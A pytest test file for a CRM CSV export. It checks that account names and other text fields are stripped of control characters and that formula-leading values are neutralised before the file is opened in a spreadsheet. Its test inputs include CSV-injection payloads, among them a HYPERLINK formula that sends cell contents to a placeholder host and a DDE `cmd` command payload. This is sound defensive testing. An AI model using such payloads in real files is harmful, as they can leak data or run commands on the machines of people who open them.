"""The CRM import file is safe to open in a spreadsheet: no formula, no control character, numbers untouched."""

import csv
import datetime as dt
from decimal import Decimal

import duckdb
import polars as pl
import pytest

from assets.rules.crm import LATEST_CRM_FILE, make_spreadsheet_safe, write_crm_import


@pytest.mark.parametrize(
    ("name", "written"),
    [
        ("Acme Holdings", "Acme Holdings"),
        ('=HYPERLINK("http://x.example/?"&A1,"click")', '\'=HYPERLINK("http://x.example/?"&A1,"click")'),
        ("+1 555 0100", "'+1 555 0100"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),  # a tab before a formula: removed, then neutralised
        ("\r=1+1", "'=1+1"),
        ("Acme\nCorp\r\nWest", "Acme Corp West"),  # a value never spans lines
        ("Null\x00byte\x1bescape\x7fdel\x85nel\u2028sep", "Null byte escape del nel sep"),
        ("Ünïcode – Straße", "Ünïcode – Straße"),
        ("it's = fine inside", "it's = fine inside"),
        (None, None),
    ],
)
def test_text_is_made_inert(name, written):
    frame = pl.DataFrame(
        {"name": [name], "billing_12m": [Decimal("-50.00")]},
        schema={"name": pl.String, "billing_12m": pl.Decimal(38, 2)},
    )
    safe = make_spreadsheet_safe(frame)
    assert safe["name"][0] == written
    assert safe["billing_12m"][0] == Decimal("-50.00")  # a credit-note account stays a negative number


def test_the_written_file_has_no_formula_and_no_control_character(tmp_path):
    conn = duckdb.connect()
    conn.execute("create schema marts")
    conn.execute(
        "create table marts.client_crosswalk as select * from (values "
        "('=sys', '1', 'a1'), ('nat', '@2', 'a2')) as t(source_system, source_client_id, account_id)"
    )
    conn.execute("""
        create table marts.seller_account_lists as select * from (values
            ('account', 'a1', null, '=HYPERLINK("http://x")', '+S1', 'Sam\tSeller', 'key', 'high', 91.25, true,
             12.50::decimal(38, 2), 1),
            ('account', 'a2', null, 'Acme' || chr(10) || 'Corp', '-S2', '@Alex', 'secondary', 'low', 10.0, false,
             -50.00::decimal(38, 2), 1)
        ) as t(row_type, account_id, prospect_id, name, owner_id, seller_name, designation, tier, priority_score,
               is_key_account, billing_12m, seller_rank)
    """)
    path, rows = write_crm_import(conn, tmp_path / "crm", "2026-10-31")
    assert rows == 2 and path.name == "alms_crm_import_2026-10-31.csv"
    text = path.read_text(encoding="utf-8")
    assert (tmp_path / "crm" / LATEST_CRM_FILE).read_text(encoding="utf-8") == text
    body = text.replace("\n", "")
    assert not any(ord(c) < 32 or 0x7F <= ord(c) <= 0x9F for c in body)
    with path.open(newline="", encoding="utf-8") as handle:
        records = list(csv.DictReader(handle))
    for record in records:
        for column, value in record.items():
            if column in ("billing_12m", "score"):
                continue
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
    assert [r["name"] for r in records] == ['\'=HYPERLINK("http://x")', "Acme Corp"]
    assert [r["owner_name"] for r in records] == ["Sam Seller", "'@Alex"]
    assert records[0]["source_ids"] == "'=sys:1" and records[1]["source_ids"] == "nat:@2"
    assert [r["billing_12m"] for r in records] == ["12.50", "-50.00"]
    assert records[0]["as_of_date"] == str(dt.date(2026, 10, 31))
